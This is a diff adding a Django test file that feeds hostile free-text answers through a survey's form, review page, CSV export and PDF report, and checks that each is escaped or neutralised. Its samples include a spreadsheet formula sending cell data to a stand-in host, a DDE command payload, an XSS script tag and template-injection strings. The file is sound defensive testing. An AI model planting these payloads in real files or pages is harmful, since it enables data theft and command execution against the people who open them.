@@ -1,0 +1,172 @@
+"""Texts that have broken other software go by form, store, page, CSV and PDF unharmed and
+harmless. The question they answer belongs to an instrument that is never published."""
+
+import csv
+import io
+import json
+from collections.abc import Iterator
+from html.parser import HTMLParser
+from pathlib import Path
+
+import pytest
+from django.http import HttpResponse
+from django.test import Client
+from pypdf import PdfReader
+
+from analytics.reports import typefaces
+from analytics.reports.layout import Sheet
+from analytics.reports.tagging import TaggedCanvas
+from responses.models import Response
+from survey import checking, stored_form
+from survey.definition import Instrument, Kind
+from survey.models import InstrumentVersion
+from tests.conftest import NOW
+from tests.responses.invited import Invited, enter, invite
+from tests.survey import make
+from ui.csv_files import STARTS_A_FORMULA, unguard, write_csv
+
+CODE = "T-TXT"
+PAGE, REVIEW = "/question/1/", "/review/"
+ACTIVE = {"/AA", "/A", "/JS", "/JavaScript", "/URI", "/Launch", "/EmbeddedFiles", "/Annots"}
+ONES_OF_OUR_OWN = [
+    "=HYPERLINK(\"http://192.0.2.1/?\"&A1,\"open\")", "@SUM(1+1)*cmd|' /C calc'!A0",
+    "</textarea><script>alert(1)</script>", "{{ 7*7 }}{% debug %}", "\N{RIGHT-TO-LEFT OVERRIDE}abc",
+    "mae’r heddlu wedi gwrando – diolch", "پولیس نے میری بات سنی", "ਪੁਲਿਸ ਨੇ ਮੇਰੀ ਗੱਲ ਸੁਣੀ",
+]  # fmt: skip
+
+
+@pytest.fixture
+def texts(shared_data: Path) -> list[str]:
+    listed = json.loads((shared_data / "freetext" / "big_list_of_naughty_strings.json").read_text())
+    assert len(listed) == 515
+    return [*listed, *ONES_OF_OUR_OWN]
+
+
+@pytest.fixture
+def kept(texts: list[str]) -> list[str]:
+    """As a text is kept: without space around it and without control characters."""
+    return [text for text in map(checking.clean_text, texts) if text]
+
+
+def with_a_text_question() -> Instrument:
+    asked = make.question(CODE, kind=Kind.TEXT, choices=(), text={"en": "What else?", "cy": "?"})
+    return make.instrument(asked, code="never-published")
+
+
+@pytest.fixture
+def inside(browser: Client) -> Invited:
+    """Someone who is asked the question, in a version that nothing but this test ever holds."""
+    instrument = with_a_text_question()
+    version = InstrumentVersion.objects.create(
+        code=instrument.code, version=1, revision=1, definition=stored_form.serialise(instrument),
+        languages=list(instrument.languages), content_hash=stored_form.content_hash(instrument),
+        published_at=NOW, published_by="tests", effective_from=NOW.date().replace(year=2099),
+    )  # fmt: skip
+    invited = invite()
+    Response.objects.create(
+        invitation_id=invited.invitation_id, instrument=version, language="en", started_at=NOW
+    )
+    enter(browser, invited)
+    return invited
+
+
+class Shown(HTMLParser):
+    """The tags of a page, the text of its box, and of the answer read back."""
+
+    def __init__(self, response: HttpResponse) -> None:
+        super().__init__()
+        self.tags: list[str] = []
+        self.box, self.answer = "", ""
+        self.feed(response.content.decode())
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        names = " ".join(sorted(name for name, _ in attrs))
+        self.tags.append(f"{tag} {names}")
+
+    def handle_data(self, data: str) -> None:
+        last = self.tags[-1].split()[0] if self.tags else ""
+        if last == "textarea":
+            self.box += data
+        if last == "bdi":
+            self.answer += data
+
+
+@pytest.mark.slow
+class TestAHostileText:
+    def test_goes_by_form_store_and_page(
+        self, browser: Client, inside: Invited, texts: list[str]
+    ) -> None:
+        browser.post(PAGE, {"answer": "words"})
+        plain = {address: Shown(browser.get(address)).tags for address in (PAGE, REVIEW)}
+
+        for text in texts:
+            expected = checking.clean_text(text)
+            answered = browser.post(PAGE, {"answer": text})
+            if not expected:
+                assert answered.status_code == 200, "an empty text is no answer and no skip"
+                continue
+            again, read_back = Shown(browser.get(PAGE)), Shown(browser.get(REVIEW))
+
+            assert answered.headers["Location"] == REVIEW, text
+            assert inside.response.answers == {CODE: [expected]}
+            assert again.box.strip("\n").split() == expected.split()
+            assert "".join(read_back.answer.split()).startswith("".join(expected.split()))
+            assert (again.tags, read_back.tags) == (plain[PAGE], plain[REVIEW]), text
+
+    def test_longer_than_a_text_may_be_is_kept_on_the_page(
+        self, browser: Client, inside: Invited
+    ) -> None:
+        text = "<b>&amp;" * (checking.MOST_CHARACTERS // 8 + 1)
+
+        page = browser.post(PAGE, {"answer": text})
+
+        assert page.status_code == 200
+        assert Shown(page).box.strip() == text
+        assert inside.response.answers == {}
+
+    def test_goes_by_csv(self, kept: list[str]) -> None:
+        written = write_csv(["text", "after"], [[text, "after"] for text in kept])
+
+        rows = list(csv.reader(io.StringIO(written, newline="")))[1:]
+
+        assert [unguard(text) for text, _ in rows] == kept
+        assert {after for _, after in rows} == {"after"}
+        assert not [text for text, _ in rows if text.lstrip().startswith(STARTS_A_FORMULA)]
+
+    def test_goes_by_pdf(self, kept: list[str]) -> None:
+        reader = PdfReader(io.BytesIO(on_paper(kept)))
+
+        spoken = [element.get("/ActualText") for element in elements(reader)]
+        assert len(reader.pages) == len(kept)
+        assert [text for text in spoken if text is not None] == kept
+        assert not active_parts(reader)
+
+
+def on_paper(texts: list[str]) -> bytes:
+    """Each on a page of its own, as a report writes its words."""
+    typefaces.register()
+    target = io.BytesIO()
+    canvas = TaggedCanvas(target, title="Texts", language="en-GB", font=typefaces.REGULAR)
+    for text in texts:
+        Sheet(canvas=canvas, stature=1).write(text, typefaces.CELL)
+        canvas.showPage()
+    canvas.save()
+    return target.getvalue()
+
+
+def elements(reader: PdfReader) -> Iterator[dict]:
+    def walk(node: dict) -> Iterator[dict]:
+        kids = node.get("/K", [])
+        for kid in kids if isinstance(kids, list) else [kids]:
+            if not isinstance(kid, int):
+                element = kid.get_object()
+                yield element
+                yield from walk(element)
+
+    yield from walk(reader.trailer["/Root"]["/StructTreeRoot"])
+
+
+def active_parts(reader: PdfReader) -> list[str]:
+    """Whatever would run, or lead out of the file."""
+    parts = [reader.trailer["/Root"], *reader.pages]
+    return [name for part in parts for name in part if name in ACTIVE]
